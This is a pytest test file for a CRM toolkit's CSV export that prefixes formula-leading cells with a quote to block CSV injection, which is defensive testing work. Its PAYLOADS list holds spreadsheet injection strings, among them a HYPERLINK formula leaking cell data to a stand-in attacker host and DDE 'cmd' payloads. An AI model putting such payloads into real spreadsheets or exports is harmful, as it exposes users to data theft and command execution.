"""CSV exports for people: formula-leading text is neutralised (OWASP), other cells are not."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from crmkit.frames.safe_csv import (
    FORMULA_STARTS,
    neutralize_cell,
    neutralize_formulas,
    restore_cell,
    write_csv,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_gets_a_leading_quote(payload: str) -> None:
    frame = pd.DataFrame({"Company": pd.Series([payload, "Zylker"], dtype="string")})
    buffer = io.StringIO()
    write_csv(frame, buffer)
    rows = cells(buffer.getvalue())
    assert rows == [["Company"], ["'" + payload], ["Zylker"]]
    assert not rows[1][0].startswith(FORMULA_STARTS)


def test_numbers_booleans_dates_and_missing_values_are_left_alone(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "amount": pd.Series([-12.5, 3.0], dtype="Float64"),
            "count": pd.Series([-1, pd.NA], dtype="Int64"),
            "flag": pd.Series([True, pd.NA], dtype="boolean"),
            "when": pd.to_datetime(["2024-01-01T00:00:00Z", None], utc=True),
            "note": pd.Series([pd.NA, "-"], dtype="string"),
            "mixed": pd.Series(["=1", 5], dtype=object),
        }
    )
    path = tmp_path / "out.csv"
    write_csv(frame, path)
    rows = cells(path.read_bytes().decode("utf-8"))
    assert rows[1] == ["-12.5", "-1", "True", "2024-01-01 00:00:00+00:00", "", "'=1"]
    assert rows[2] == ["3.0", "", "", "", "'-", "5"]
    assert frame["note"].iloc[1] == "-"  # the caller's frame is not changed


def test_carriage_returns_inside_cells_stay_inside_their_row(tmp_path: Path) -> None:
    frame = pd.DataFrame({"a": pd.Series(["x\ry", "p\nq"], dtype="string"), "b": [1, 2]})
    path = tmp_path / "out.csv"
    write_csv(frame, path)
    assert cells(path.read_bytes().decode("utf-8")) == [["a", "b"], ["x\ry", "1"], ["p\nq", "2"]]


def test_plain_text_and_inner_formula_characters_are_kept() -> None:
    frame = pd.DataFrame({"x": pd.Series(["a=b", "pat@zylker.com", "1-2", " =x"], dtype="string")})
    assert neutralize_formulas(frame)["x"].tolist() == ["a=b", "pat@zylker.com", "1-2", " =x"]


@pytest.mark.parametrize("value", [*PAYLOADS, "plain", "'quoted", "'", "", "'=x", "''+1"])
def test_restore_undoes_neutralize(value: str) -> None:
    assert restore_cell(neutralize_cell(value)) == value
    assert not neutralize_cell(value).startswith(FORMULA_STARTS)


def test_a_quote_the_user_wrote_is_kept_apart_from_crmkits() -> None:
    frame = pd.DataFrame({"x": pd.Series(["'=x", "=x"], dtype="string")})
    assert neutralize_formulas(frame)["x"].tolist() == ["''=x", "'=x"]
